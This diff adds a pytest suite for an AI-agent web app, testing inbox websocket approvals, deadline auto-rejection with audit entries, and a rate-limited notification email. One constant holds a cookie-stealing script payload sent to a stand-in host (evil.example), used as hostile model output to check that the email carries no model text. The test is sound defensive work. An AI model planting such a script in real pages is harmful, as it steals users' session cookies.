@@ -1,0 +1,253 @@
+"""One inbox and deadlines (issue 30), through the service and the inbox socket.
+
+A step that starts waiting reaches its owner's inbox socket live, and nobody else's; a decision
+sent there runs it through the notebook's own `decide`; a passed deadline rejects the calls
+automatically, exactly once however many sweeps race, and the audit says so; the opt-in email
+is rate-limited and carries nothing the model wrote.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+from typing import Any
+
+import pytest
+from channels.db import database_sync_to_async
+from channels.testing import WebsocketCommunicator
+from django.contrib.auth.models import AbstractBaseUser
+
+from runs import service
+from runs.engine.testing import Match, Reply, Rule, Script, ToolCallSpec
+from runs.models import Event, InboxSettings, Task
+from runs.protocol import ProtocolError
+from runs.service import deadlines
+from tests.live_support import (
+    ANSWER,
+    ORIGIN,
+    QUESTION,
+    analyst_script,
+    close_db_connections,  # noqa: F401  (autouse: closes the ORM thread's connection)
+    llm_at,
+    make_notebook,
+    make_user,
+    session_cookie,
+    until_true,
+)
+
+pytestmark = [pytest.mark.db, pytest.mark.ws, pytest.mark.django_db(transaction=True)]
+
+HOSTILE = (
+    "<script>fetch('https://evil.example/'+document.cookie)</script> sk-live-SECRET"
+)
+
+
+async def inbox_socket(user: AbstractBaseUser) -> WebsocketCommunicator:
+    from agentui.asgi import application
+
+    cookie = await database_sync_to_async(session_cookie)(user)
+    communicator = WebsocketCommunicator(
+        application, "/ws/inbox/", headers=[ORIGIN, (b"cookie", cookie.encode())]
+    )
+    connected, _ = await communicator.connect(timeout=5)
+    assert connected
+    return communicator
+
+
+async def next_list(ws: WebsocketCommunicator, count: int) -> dict[str, Any]:
+    """The first `inbox` message with `count` items (earlier lists are skipped)."""
+    while True:
+        message = json.loads(await ws.receive_from(timeout=10))
+        if message["type"] == "inbox" and message["count"] == count:
+            return message
+
+
+async def decide(
+    ws: WebsocketCommunicator,
+    request_id: str,
+    notebook: int,
+    step_id: str,
+    **fields: Any,
+) -> None:
+    """Send a `decide` frame on an inbox socket."""
+    frame = {"action": "decide", "request_id": request_id, "notebook": notebook}
+    await ws.send_to(text_data=json.dumps({**frame, "step_id": step_id, **fields}))
+
+
+async def human_actions(task_pk: int) -> list[dict[str, Any]]:
+    rows = Event.objects.filter(task_id=task_pk, type="human_action").order_by("seq")
+    return [e.payload async for e in rows]
+
+
+async def test_a_waiting_step_reaches_the_inbox_live_and_is_approved_from_it(
+    scripted_server: Any,
+) -> None:
+    server = scripted_server(analyst_script())
+    alice = await database_sync_to_async(make_user)("alice")
+    bob = await database_sync_to_async(make_user)("bob")
+    with llm_at(server):
+        task = await database_sync_to_async(make_notebook)(alice, mode="tools")
+        mine = await inbox_socket(alice)
+        theirs = await inbox_socket(bob)
+        assert (await next_list(mine, 0))["items"] == []
+        await next_list(theirs, 0)
+
+        await service.send_message(task.pk, QUESTION)
+        listed = await next_list(mine, 1)
+        item = listed["items"][0]
+        assert listed["started"] == task.pk
+        assert (item["notebook"], item["kind"]) == (task.pk, "tool_calls")
+        assert [c["tool_name"] for c in item["calls"]] == ["add", "multiply"]
+        assert item["calls"][0]["arguments"] == {"a": 2, "b": 3}
+        assert await theirs.receive_nothing(timeout=0.2)  # bob hears nothing of alice's
+
+        # bob cannot decide on alice's step; alice approves with an edited argument
+        await decide(theirs, "b1", task.pk, item["step_id"], verdict="approve")
+        refused = json.loads(await theirs.receive_from(timeout=5))
+        assert (refused["type"], refused["code"]) == ("error", "not_found")
+        edited = json.dumps([{"tool_id": "call_add", "tool_kwargs": {"a": 2, "b": 4}}])
+        await decide(
+            mine, "a1", task.pk, item["step_id"], verdict="approve", edited=edited
+        )
+        acked = await until_true(lambda: _ack(mine), what="the decision's ack")
+        assert acked["request_id"] == "a1"
+        await service.wait_idle()
+        await mine.disconnect()
+        await theirs.disconnect()
+    turn = await task.turns.aget()
+    assert turn.response == ANSWER
+    actions = await human_actions(task.pk)
+    assert [(a["action"], a["by"], a.get("automatic")) for a in actions] == [
+        ("edited_arguments", "alice", None),
+        ("approved", "alice", None),
+    ]
+    assert await database_sync_to_async(service.inbox_of)(alice.pk) == []
+
+
+async def _ack(ws: WebsocketCommunicator) -> dict[str, Any] | None:
+    if await ws.receive_nothing(timeout=0.05):
+        return None
+    message = json.loads(await ws.receive_from())
+    return message if message["type"] == "ack" else None
+
+
+async def wait_with_deadline(server: Any, seconds: int) -> tuple[Task, dict[str, Any]]:
+    alice = await database_sync_to_async(make_user)("alice")
+    task = await database_sync_to_async(make_notebook)(alice, mode="tools")
+    await Task.objects.filter(pk=task.pk).aupdate(wait_deadline_s=seconds)
+    await service.send_message(task.pk, QUESTION)
+    waiting = await until_true(
+        lambda: Event.objects.filter(task=task, type="step_waiting").alast(),
+        what="the tool calls to wait",
+    )
+    await service.wait_idle()
+    return task, waiting.payload
+
+
+async def test_a_passed_deadline_rejects_the_calls_once_and_the_audit_says_so(
+    scripted_server: Any,
+) -> None:
+    server = scripted_server(analyst_script())
+    with llm_at(server):
+        task, waiting = await wait_with_deadline(server, 600)
+        assert waiting["deadline_s"] == 600 and waiting["deadline_action"] == "reject"
+        assert waiting["deadline_at"] == pytest.approx(waiting["at"] + 600)
+        # before the deadline nothing happens
+        assert await deadlines.sweep_once(now=waiting["deadline_at"] - 1) == 0
+        # after it, three sweeps at once (as three server processes) act once
+        after = waiting["deadline_at"] + 0.5
+        acted = await asyncio.gather(
+            *(deadlines.sweep_once(now=after) for _ in range(3))
+        )
+        await service.wait_idle()
+    assert sum(acted) == 1
+    actions = await human_actions(task.pk)
+    why = "the deadline of 10 min passed"
+    assert [(a["action"], a.get("tool_id"), a.get("automatic")) for a in actions] == [
+        ("rejected_call", "call_add", why),
+        ("rejected_call", "call_mul", why),
+        ("approved", None, why),
+    ]
+    assert actions[0]["reason"] == f"Rejected automatically: {why}."
+    # what the model was told is the recorded reason
+    told = [m for m in server.requests[-1].messages if m.get("role") == "tool"]
+    assert len(told) == 2
+    assert all(f"Rejected automatically: {why}." in m["content"] for m in told)
+
+
+async def test_a_stop_deadline_stops_the_turn_automatically(
+    scripted_server: Any,
+) -> None:
+    server = scripted_server(analyst_script())
+    with llm_at(server):
+        alice = await database_sync_to_async(make_user)("alice")
+        task = await database_sync_to_async(make_notebook)(alice, mode="step")
+        await database_sync_to_async(service.set_deadline)(task.pk, 60, "stop")
+        await service.send_message(task.pk, QUESTION)
+        waiting = await Event.objects.filter(task=task, type="step_waiting").alast()
+        assert waiting is not None
+        assert await deadlines.sweep_once(now=waiting.payload["deadline_at"] + 1) == 1
+        await service.wait_idle()
+    stop = (await human_actions(task.pk))[-1]
+    assert (stop["action"], stop["automatic"]) == (
+        "stopped",
+        "the deadline of 1 min passed",
+    )
+    assert len(server.requests) == 0  # the step never ran
+    assert (await Task.objects.aget(pk=task.pk)).status == "idle"
+
+
+def test_a_deadline_out_of_range_is_refused_and_nothing_changes() -> None:
+    task = make_notebook(make_user())
+    for seconds, action in ((-1, ""), (8 * 24 * 3600, ""), (60, "approve")):
+        with pytest.raises(ProtocolError):
+            service.set_deadline(task.pk, seconds, action)
+    task.refresh_from_db()
+    assert (task.wait_deadline_s, task.wait_deadline_action) == (None, "")
+
+
+def hostile_rules() -> list[Rule]:
+    return [
+        Rule(
+            name="hostile call",
+            match=Match(tool_results_since_user=0),
+            reply=Reply(
+                text=HOSTILE,
+                tool_calls=[
+                    ToolCallSpec(name="add", arguments={"a": 1, "b": HOSTILE}, id="c1")
+                ],
+            ),
+        )
+    ]
+
+
+async def test_the_wait_email_is_opt_in_rate_limited_and_carries_no_model_text(
+    scripted_server: Any, mailoutbox: list[Any], settings: Any
+) -> None:
+    settings.AGENTUI_WAIT_EMAIL_EVERY_S = 600
+    server = scripted_server(Script(rules=hostile_rules()))
+    alice = await database_sync_to_async(make_user)("alice")
+    alice.email = "alice@example.org"
+    await alice.asave()
+    with llm_at(server):
+        quiet = await database_sync_to_async(make_notebook)(alice, mode="tools")
+        await service.send_message(quiet.pk, "Add <b>these</b>")
+        await service.wait_idle()
+        assert mailoutbox == []  # not asked for
+        await InboxSettings.objects.aupdate_or_create(
+            user=alice, defaults={"email_on_wait": True}
+        )
+        first = await database_sync_to_async(make_notebook)(alice, mode="tools")
+        await service.send_message(first.pk, "Add them, first")
+        await service.wait_idle()
+        second = await database_sync_to_async(make_notebook)(alice, mode="tools")
+        await service.send_message(second.pk, "Add them, second")
+        await service.wait_idle()
+    assert len(mailoutbox) == 1  # the second wait fell within the rate limit
+    mail = mailoutbox[0]
+    assert mail.to == ["alice@example.org"]
+    assert f"/tasks/{first.pk}/" in mail.body and "Add them, first" in mail.subject
+    for part in (mail.subject, mail.body):
+        assert "<script" not in part and "SECRET" not in part and "evil" not in part
+    row = await InboxSettings.objects.aget(user=alice)
+    assert row.unsent_waits == 1
